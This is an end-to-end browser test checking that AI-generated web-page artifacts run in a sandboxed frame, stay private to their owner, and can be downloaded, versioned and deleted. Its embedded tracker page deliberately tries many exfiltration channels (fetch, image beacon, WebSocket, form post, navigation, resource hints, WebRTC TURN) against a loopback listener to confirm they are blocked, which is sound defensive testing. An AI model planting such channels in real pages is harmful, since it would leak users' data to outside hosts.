/**
 * The Artifacts tab in real Chromium, with a scripted model: Familiar makes a small web app (an
 * expense tracker with its own script) and a document, then a second version of the document. The
 * person lists them, opens the page — its script runs, while everything it tries against a
 * loopback listener fails with 0 hits (fetch, image, WebSocket, form, navigation of its frame and
 * of the window, window.open) — downloads, looks at versions, deletes a version and a whole
 * artifact. Another person sees none of it.
 */
import net from "node:net";
import type { AddressInfo } from "node:net";
import { existsSync } from "node:fs";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { buildWebUi } from "../../webui/build.mjs";
import { startFakeOpenAI, text, toolCall, type FakeOpenAIServer, type RecordedRequest } from "../fakes/openai-server.js";
import { startTestApp, type TestApp } from "../helpers/app.js";
import { launchChromium, newContext, screenshot, signInAsNew } from "../helpers/browser.js";
import { lastTool } from "../helpers/e2e.js";

/** An expense tracker that works offline, and tries every way out to `target` (host:port). */
function trackerPage(target: string): string {
  return `<!doctype html><html><head><title>Tracker</title>
<link rel="preconnect" href="http://${target}/pre"><link rel="dns-prefetch" href="http://${target}/dns"><link rel="prefetch" href="http://${target}/prefetch"><link rel="preload" as="image" href="http://${target}/preload">
<style>body{font-family:sans-serif} #total{font-weight:bold}</style></head><body>
<h1>Expenses</h1><form id="add" onsubmit="return false"><input id="what" value="Bread"><input id="amount" value="2.50"><button id="add-btn" type="button">Add</button></form>
<ul id="rows"></ul><p>Total: <span id="total">0.00</span></p><p id="tries"></p>
<form id="leak" action="http://${target}/form" method="post"><input name="x" value="1"></form><a id="away" href="http://${target}/link">away</a><button id="self" type="button" onclick="location.href = 'http://${target}/self'">self</button>
<script>
var total = 0;
document.getElementById("add-btn").addEventListener("click", function () {
  var li = document.createElement("li");
  li.textContent = document.getElementById("what").value + " " + document.getElementById("amount").value;
  document.getElementById("rows").appendChild(li);
  total += parseFloat(document.getElementById("amount").value);
  document.getElementById("total").textContent = total.toFixed(2);
});
var tries = [];
function attempt(name, f) { try { f(); tries.push(name); } catch (e) { tries.push(name + "!"); } }
attempt("fetch", function () { fetch("http://${target}/fetch", { method: "POST", body: "expenses" }).catch(function () {}); });
attempt("image", function () { new Image().src = "http://${target}/img?d=expenses"; });
attempt("ws", function () { new WebSocket("ws://${target}/ws"); });
attempt("form", function () { document.getElementById("leak").submit(); });
attempt("open", function () { window.open("http://${target}/open"); });
attempt("top", function () { top.location.href = "http://${target}/top"; });
attempt("hint", function () { var l = document.createElement("link"); l.rel = "preconnect"; l.href = "http://${target}/prejs"; document.head.appendChild(l); });
attempt("hint-html", function () { document.head.insertAdjacentHTML("beforeend", '<link rel="dns-prefetch" href="http://${target}/prehtml"><link rel="preconnect" href="http://${target}/prehtml2">'); });
attempt("rtc", function () { new RTCPeerConnection({ iceServers: [{ urls: "turn:${target}?transport=tcp", username: "u", credential: "p" }] }).createOffer(); });
document.getElementById("tries").textContent = "tried " + tries.join(",");
</script></body></html>`;
}

function artifactModel(target: () => string) {
  return (r: RecordedRequest) => {
    const tool = lastTool(r);
    const user = r.lastUserText ?? "";
    if (user.includes("tracker")) {
      if (tool === null) return toolCall("artifact_create", { kind: "page", title: "Expense tracker", from: { content: trackerPage(target()) } });
      if (tool.includes("Kept page")) return toolCall("artifact_create", { kind: "document", title: "Packing list", from: { content: "# Packing list\n\n- passport\n- charger\n" } });
      return text("Made a tracker and a packing list.");
    }
    if (user.includes("sunscreen")) {
      if (tool === null) return toolCall("artifact_list", {});
      const doc = /(art_[0-9a-f]{28}) — “Packing list”/.exec(tool)?.[1];
      if (doc && !tool.includes("version 2")) return toolCall("artifact_update", { id: doc, from: { content: "# Packing list\n\n- passport\n- charger\n- sunscreen\n" } });
      return text("Added sunscreen.");
    }
    return text(`echo: ${user}`);
  };
}

async function signIn(page: Page, url: string, name: string): Promise<void> {
  await page.goto(url);
  await signInAsNew(page, name);
  await page.waitForURL(/\/(chat|setup)$/);
}

async function say(page: Page, words: string, answer: string): Promise<void> {
  await page.goto(page.url().replace(/\/[^/]*$/, "/chat"));
  await page.fill("#text", words);
  await page.click(".composer button[type=submit]");
  await page.getByText(answer).waitFor({ timeout: 60_000 });
}

describe("the Artifacts tab in real Chromium", () => {
  let browser: Browser;
  let model: FakeOpenAIServer;
  let app: TestApp;
  let listener: net.Server;
  let bytes = 0;
  let requests = 0;
  let connections = 0;

  beforeAll(async () => {
    await buildWebUi();
    browser = await launchChromium();
    // The loopback "outside": counts bytes and HTTP requests (hits).
    listener = net.createServer((socket) => {
      connections++;
      socket.on("data", (chunk) => {
        bytes += chunk.length;
        if (/^(GET|POST|PUT|OPTIONS|HEAD) /.test(chunk.toString("latin1"))) requests++;
      });
      socket.on("error", () => undefined);
      setTimeout(() => socket.destroy(), 500);
    });
    await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    listener?.close();
  });
  afterEach(async () => {
    await app?.close();
    await model?.close();
  });

  it("lists, opens, downloads and deletes artifacts; a web page runs its script and reaches nothing", async () => {
    const target = `127.0.0.1:${(listener.address() as AddressInfo).port}`;
    model = await startFakeOpenAI({ fallback: artifactModel(() => target) });
    app = await startTestApp({ OPENAI_BASE_URL: model.url });
    const context = await newContext(browser, "desktop");
    const page = await context.newPage();
    await signIn(page, app.url, "ana");
    await say(page, "make me an expense tracker and a packing list", "Made a tracker and a packing list.");
    await say(page, "add sunscreen to the packing list", "Added sunscreen.");

    await page.goto(`${app.url}/dashboard/artifacts`);
    const cards = page.locator(".card.artifact");
    await cards.first().waitFor();
    expect(await cards.locator("h3").allInnerTexts()).toEqual(["Packing list", "Expense tracker"]);
    expect(await cards.first().locator(".meta").innerText()).toMatch(/^Document · version 2 · /);
    expect(await cards.nth(1).locator(".meta").innerText()).toMatch(/^Web page · version 1 · /);
    await screenshot(page, "artifacts-tab");

    // Open the web page: its own URL, a sandboxed frame; the script works.
    const [tab] = await Promise.all([context.waitForEvent("page"), cards.nth(1).getByRole("link", { name: "Open" }).click()]);
    await tab.waitForLoadState();
    expect(tab.url()).toMatch(/\/a\/art_[0-9a-f]{28}$/);
    const pageUrl = tab.url();
    expect(await tab.locator("iframe#artifact").getAttribute("sandbox")).toBe("allow-scripts");
    const frame = tab.frameLocator("iframe#artifact");
    await frame.locator("#add-btn").click();
    await frame.locator("#add-btn").click();
    await expect.poll(() => frame.locator("#total").textContent()).toBe("5.00");
    expect(await frame.locator("#rows li").count()).toBe(2);
    expect(await frame.locator("#tries").textContent()).toMatch(/^tried fetch,image,ws!?,form,open,top!?,hint,hint-html,rtc!?$/);
    await tab.waitForTimeout(2000);
    // Before any navigation of its own frame: not even a connection (the resource hints in its
    // markup and made by its script are dropped).
    expect(connections).toBe(0);
    // Then it tries to navigate its own frame away: a link and location.
    await frame.locator("#away").click();
    await frame.locator("#self").click().catch(() => undefined);
    await tab.waitForTimeout(2000);
    // Nothing reached the listener: no request, not one byte. (A navigation of the frame may make
    // Chromium open a bare preconnect first: see sandbox/artifacts/page-policy.ts.)
    expect(requests).toBe(0);
    expect(bytes).toBe(0);
    expect(tab.url()).toBe(pageUrl);
    expect(context.pages()).toHaveLength(2);
    // The frame has no access to the app: its origin is opaque, the app's cookie is not its own.
    const reach = await tab.frames()[1]!.evaluate(() => {
      // The frame's window (no DOM types in the test's compilation).
      const window = globalThis as unknown as { document: { cookie: string }; parent: { document: { title: string } }; origin: string };
      let cookie: string;
      try {
        cookie = window.document.cookie;
      } catch (error) {
        cookie = `refused: ${(error as Error).name}`;
      }
      let parent: string;
      try {
        parent = window.parent.document.title;
      } catch (error) {
        parent = `refused: ${(error as Error).name}`;
      }
      return { origin: String(window.origin), cookie, parent };
    });
    expect(reach).toEqual({ origin: "null", cookie: "refused: SecurityError", parent: "refused: SecurityError" });
    await tab.close();

    // Download the document's latest version; look at its versions; delete the first.
    const [download] = await Promise.all([page.waitForEvent("download"), cards.first().getByRole("link", { name: "Download" }).click()]);
    expect(download.suggestedFilename()).toMatch(/\.md$/);
    const downloaded = await download.path().then((p) => import("node:fs").then((fs) => fs.readFileSync(p, "utf8")));
    expect(downloaded).toContain("sunscreen");
    await cards.first().getByRole("button", { name: "Versions" }).click();
    const versions = page.getByRole("list", { name: "Versions of Packing list" });
    expect(await versions.locator("li").allInnerTexts()).toEqual([expect.stringMatching(/^Version 2 /), expect.stringMatching(/^Version 1 /)]);
    await versions.getByRole("button", { name: "Delete version 1" }).click();
    await page.getByText("Deleted version 1 of “Packing list”.").waitFor();
    expect(await cards.first().locator(".meta").innerText()).toMatch(/^Document · version 2 · /);

    // Delete the web page, asked twice; its file goes, its page is gone.
    const identity = (await app.store.persons.findIdentity("local", "ana"))!;
    const [tracker] = (await app.store.artifacts.listArtifacts(identity.personId)).items.filter((a) => a.kind === "page");
    const file = join(app.dataDir, "persons", identity.personId, "workspace", tracker!.path);
    expect(existsSync(file)).toBe(true);
    await cards.nth(1).getByRole("button", { name: "Delete" }).click();
    await cards.nth(1).getByRole("button", { name: /^Delete all/ }).click();
    await page.getByText("Deleted “Expense tracker” and all its versions.").waitFor();
    expect(await cards.locator("h3").allInnerTexts()).toEqual(["Packing list"]);
    expect(existsSync(file)).toBe(false);
    expect((await page.goto(pageUrl))!.status()).toBe(404);

    // Another person sees none of it.
    const other = await (await newContext(browser, "desktop")).newPage();
    await signIn(other, app.url, "bob");
    const [docOfAna] = (await app.store.artifacts.listArtifacts(identity.personId)).items;
    expect((await other.goto(`${app.url}/a/${docOfAna!.seriesId}`))!.status()).toBe(404);
    await other.goto(`${app.url}/dashboard/artifacts`);
    await other.getByText("Nothing kept yet.").waitFor();
    const listed = await other.evaluate(async () => (await fetch("/api/web/artifacts")).json());
    expect(listed).toEqual({ items: [], next: null });
    const fileOfAna = await other.evaluate(async (id) => (await fetch(`/api/web/artifacts/${id}/file`)).status, docOfAna!.seriesId);
    expect(fileOfAna).toBe(404);
  }, 180_000);
});
